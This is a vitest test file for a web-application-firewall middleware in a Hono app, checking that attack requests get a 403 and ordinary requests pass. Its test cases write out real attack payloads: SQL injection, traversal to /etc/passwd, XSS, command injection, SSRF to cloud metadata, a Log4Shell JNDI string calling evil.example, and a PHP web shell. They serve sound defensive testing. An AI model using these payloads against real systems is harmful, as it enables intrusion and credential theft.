/**
 * The security filter middleware in a real middleware chain (request context → geo → edge
 * config → body limit → security filter, as in src/app.ts), with routes that read the body.
 * The security section of the config is set per test by a fixture middleware right after
 * `edgeConfig()` (the rest of the config is the real one from the EdgeConfig object).
 */
// zod-openapi must extend zod before the config schema is built (src/app.ts imports it first too);
// the EdgeConfig object loads src/index.ts into this same module graph.
import "@hono/zod-openapi";
import { env } from "cloudflare:workers";
import { Hono, type MiddlewareHandler } from "hono";
import { afterEach, beforeEach, describe, expect, it, vi, type MockInstance } from "vitest";
import type { AppEnv } from "../../src/env.ts";
import { edgeConfigSchema } from "../../src/lib/config/schema.ts";
import type { SecurityConfig } from "../../src/lib/waf/index.ts";
import { bodyLimit } from "../../src/middleware/body-limit.ts";
import { edgeConfig } from "../../src/middleware/edge-config.ts";
import { geo } from "../../src/middleware/geo.ts";
import { notFound, onError } from "../../src/middleware/problems.ts";
import { requestContext } from "../../src/middleware/request-context.ts";
import { securityFilter } from "../../src/middleware/security-filter.ts";
import { problemOf } from "./helpers.ts";

const BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";

function withSecurity(security: SecurityConfig): MiddlewareHandler<AppEnv> {
  return async function testSecurity(c, next) {
    c.set("config", { ...c.var.config, security });
    await next();
  };
}

function appWith(s: Record<string, unknown> = {}) {
  const security = edgeConfigSchema.parse({ security: s }).security;
  const app = new Hono<AppEnv>()
    .use(requestContext())
    .use(geo())
    .use(edgeConfig())
    .use(withSecurity(security))
    .use(bodyLimit())
    .use(securityFilter())
    .get("/v1/search", (c) => c.json({ q: c.req.query("q") ?? null }))
    .post("/v1/echo", async (c) => c.json({ body: await c.req.json<unknown>() }))
    .post("/v1/echo-text", async (c) => c.text(await c.req.text()))
    .post("/v1/form", async (c) => c.json(await c.req.parseBody()));
  app.onError(onError);
  app.notFound(notFound);
  return app;
}

interface Sent {
  method?: string;
  headers?: Record<string, string>;
  body?: BodyInit;
  /** `x-dev-cf` override (development only): visitor address, country, ASN. */
  visitor?: { ip?: string; country?: string; asn?: number };
}

function send(app: ReturnType<typeof appWith>, path: string, init: Sent = {}): Promise<Response> {
  const headers: Record<string, string> = { "user-agent": BROWSER, ...init.headers };
  if (init.visitor) headers["x-dev-cf"] = JSON.stringify(init.visitor);
  return Promise.resolve(app.request(path, { method: init.method ?? "GET", headers, body: init.body }, env));
}

let logSpy: MockInstance<typeof console.log>;
beforeEach(() => {
  logSpy = vi.spyOn(console, "log").mockImplementation(() => {});
});
afterEach(() => logSpy.mockRestore());

/** The `waf` field of the request's log line for `res`. */
function wafLog(res: Response): Record<string, unknown> {
  const id = res.headers.get("x-request-id");
  const line = logSpy.mock.calls.map((a) => String(a[0])).find((l) => l.includes('"msg":"request"') && l.includes(`"requestId":"${id}"`));
  if (!line) throw new Error(`no request log line for ${id}`);
  return (JSON.parse(line) as { waf: Record<string, unknown> }).waf;
}

describe("security filter middleware", () => {
  it("lets ordinary requests through, logs the decision and times it in Server-Timing", async () => {
    const res = await send(appWith(), "/v1/search?q=O%27Brien%20rock%20and%20roll");
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ q: "O'Brien rock and roll" });
    expect(wafLog(res)).toEqual({ action: "allow" });
    expect(res.headers.get("server-timing")).toMatch(/(?:^|,)waf;dur=\d/);
  });

  it("blocks an attack with a 403 request-blocked problem that does not name the rule; the rule is in the log", async () => {
    const res = await send(appWith(), "/v1/search?q=1%27%20UNION%20SELECT%20password%2C1%20FROM%20users--");
    expect(res.status).toBe(403);
    const text = await res.clone().text();
    const p = await problemOf(res);
    expect(p.type).toMatch(/\/request-blocked$/);
    expect(p.detail).toBe("The request was blocked by the security filter.");
    expect(p.requestId).toBe(res.headers.get("x-request-id"));
    expect(text).not.toMatch(/sqli|union/i);
    expect(wafLog(res)).toMatchObject({ action: "block", ruleId: "sqli-union-select", class: "sqli", part: "query:q" });
    expect(wafLog(res).score).toBeGreaterThanOrEqual(5);
    expect(res.headers.get("server-timing")).toMatch(/waf;dur=/);
  });

  it("filters every path, including unknown ones (403, not 404)", async () => {
    const res = await send(appWith(), "/no/such/route?file=..%2F..%2F..%2Fetc%2Fpasswd");
    expect(res.status).toBe(403);
    expect(wafLog(res)).toMatchObject({ action: "block", class: "traversal" });
    expect((await send(appWith(), "/no/such/route")).status).toBe(404);
  });

  it("mode log never blocks but records the would-be block", async () => {
    const res = await send(appWith({ mode: "log" }), "/v1/search?q=%3Csvg%2Fonload%3Dalert(1)%3E");
    expect(res.status).toBe(200);
    expect(wafLog(res)).toMatchObject({ action: "log", wouldBlock: true, class: "xss", ruleId: "xss-event-handler" });
  });

  it("detects attacks in JSON bodies, forms, cookies and headers", async () => {
    const app = appWith();
    const cases: Array<[string, string, Sent]> = [
      ["command", "/v1/echo", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ host: "8.8.8.8; cat /etc/passwd" }) }],
      ["ssrf", "/v1/form", { method: "POST", headers: { "content-type": "application/x-www-form-urlencoded" }, body: "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F" }],
      ["template", "/v1/search", { headers: { cookie: "greeting=%7B%7B7*7%7D%7D; theme=dark" } }],
      ["log4shell", "/v1/search", { headers: { "x-api-version": "${${lower:j}ndi:ldap://evil.example/a}" } }],
      ["php", "/v1/echo-text", { method: "POST", headers: { "content-type": "text/plain" }, body: "<?php system($_GET['c']); ?>" }],
      ["java", "/v1/search", { headers: { "content-type": "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}" } }],
    ];
    for (const [cls, path, init] of cases) {
      const res = await send(app, path, init);
      expect(res.status, cls).toBe(403);
      expect(wafLog(res).class, cls).toBe(cls);
    }
  });

  it("the route still reads the whole body after inspection (JSON, text, form)", async () => {
    const app = appWith();
    const doc = { name: "Siobhán O'Brien", notes: "x".repeat(200_000), items: [1, 2, 3] };
    const res = await send(app, "/v1/echo", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(doc) });
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ body: doc });
    const text = "line one\nline two — rock 'n' roll\n";
    const t = await send(app, "/v1/echo-text", { method: "POST", headers: { "content-type": "text/plain" }, body: new Blob([text]).stream() });
    expect(t.status).toBe(200);
    expect(await t.text()).toBe(text);
    const f = await send(app, "/v1/form", { method: "POST", headers: { "content-type": "application/x-www-form-urlencoded" }, body: "name=D%27Angelo&city=L%27Aquila" });
    expect(await f.json()).toEqual({ name: "D'Angelo", city: "L'Aquila" });
  });

  it("only reads maxBodyBytes of the body for inspection (the body-size limit refuses larger ones first)", async () => {
    const app = appWith({ maxBodyBytes: 64 });
    const small = await send(app, "/v1/echo-text", { method: "POST", headers: { "content-type": "text/plain" }, body: "<script>alert(1)</script>" });
    expect(small.status).toBe(403);
    const large = await send(app, "/v1/echo-text", { method: "POST", headers: { "content-type": "text/plain" }, body: `${"a".repeat(100)}<script>alert(1)</script>` });
    expect(large.status).toBe(413);
  });

  it("network rules use the visitor: blocked and allowed addresses, IPv4-mapped IPv6, countries, ASNs", async () => {
    const app = appWith({ blockedIps: ["203.0.113.0/24"], allowedIps: ["203.0.113.9"], blockedCountries: ["KP"], blockedAsns: [64496] });
    const blocked = await send(app, "/v1/search", { visitor: { ip: "203.0.113.7" } });
    expect(blocked.status).toBe(403);
    expect(wafLog(blocked)).toMatchObject({ action: "block", ruleId: "network-blocked-ip", class: "network" });
    const mapped = await send(app, "/v1/search", { visitor: { ip: "::ffff:203.0.113.7" } });
    expect(mapped.status).toBe(403);
    expect(wafLog(mapped).ruleId).toBe("network-blocked-ip");
    const allowed = await send(app, "/v1/search?q=%27%20OR%201%3D1--", { visitor: { ip: "203.0.113.9" } });
    expect(allowed.status).toBe(200);
    expect(wafLog(allowed)).toMatchObject({ action: "allow", ruleId: "network-allowed-ip" });
    expect((await send(app, "/v1/search", { visitor: { ip: "198.51.100.1", country: "KP" } })).status).toBe(403);
    expect((await send(app, "/v1/search", { visitor: { ip: "198.51.100.1", asn: 64496 } })).status).toBe(403);
    expect((await send(app, "/v1/search", { visitor: { ip: "198.51.100.1", country: "DE", asn: 3320 } })).status).toBe(200);
  });

  it("allowedIps skip body inspection too", async () => {
    const app = appWith({ allowedIps: ["2001:db8::/32"] });
    const body = JSON.stringify({ q: "<script>alert(1)</script>" });
    const res = await send(app, "/v1/echo", { method: "POST", headers: { "content-type": "application/json" }, body, visitor: { ip: "2001:db8::1" } });
    expect(res.status).toBe(200);
    expect((await send(app, "/v1/echo", { method: "POST", headers: { "content-type": "application/json" }, body, visitor: { ip: "2001:db9::1" } })).status).toBe(403);
  });

  it("custom rules: first allow/block wins in order, log rules are recorded", async () => {
    const app = appWith({
      rules: [
        { id: "watch-search", action: "log", match: { pathPrefix: "/v1/search" } },
        { id: "allow-partner", action: "allow", match: { header: { name: "x-partner", contains: "acme" } } },
        { id: "no-wp", action: "block", match: { pathPrefix: "/wp-admin" } },
      ],
    });
    const logged = await send(app, "/v1/search?q=shoes");
    expect(logged.status).toBe(200);
    expect(wafLog(logged)).toMatchObject({ action: "log", ruleId: "watch-search", class: "custom" });
    const partner = await send(app, "/v1/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", { headers: { "x-partner": "ACME Corp" } });
    expect(partner.status).toBe(200);
    expect(wafLog(partner)).toMatchObject({ action: "allow", ruleId: "allow-partner" });
    const wp = await send(app, "/wp-admin/install.php");
    expect(wp.status).toBe(403);
    expect(wafLog(wp)).toMatchObject({ action: "block", ruleId: "no-wp", class: "custom" });
  });

  it("protocol rules: disallowed method and malformed percent-encoding", async () => {
    const app = appWith();
    const propfind = await send(app, "/v1/search", { method: "PROPFIND" });
    expect(propfind.status).toBe(403);
    expect(wafLog(propfind).ruleId).toBe("protocol-method-not-allowed");
    const bad = await send(app, "/v1/search?q=%E0%A4%A");
    expect(bad.status).toBe(403);
    expect(wafLog(bad)).toMatchObject({ ruleId: "protocol-bad-encoding", class: "protocol" });
  });

  it("scanner user agents are blocked, API clients are not", async () => {
    const app = appWith();
    const scan = await send(app, "/v1/search", { headers: { "user-agent": "sqlmap/1.8.2#stable (https://sqlmap.org)" } });
    expect(scan.status).toBe(403);
    expect(wafLog(scan).ruleId).toBe("scanner-user-agent");
    expect((await send(app, "/v1/search", { headers: { "user-agent": "curl/8.5.0" } })).status).toBe(200);
  });
});
